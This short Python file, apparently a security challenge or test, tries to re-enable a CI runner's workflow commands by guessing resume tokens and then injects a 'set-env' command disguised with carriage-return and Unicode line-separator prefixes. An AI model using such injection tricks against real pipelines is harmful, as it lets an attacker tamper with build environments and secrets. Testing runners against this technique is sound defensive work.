"""Guess the word that makes the runner listen to workflow commands again."""


def attempt(targets, secret):
    for word in ("endgroup", "easeml", "resume", "0" * 32):
        print(f"::{word}::")
    print("\r::set-env name=HOSTILE::1")
    print("\u2028::set-env name=HOSTILE::1")
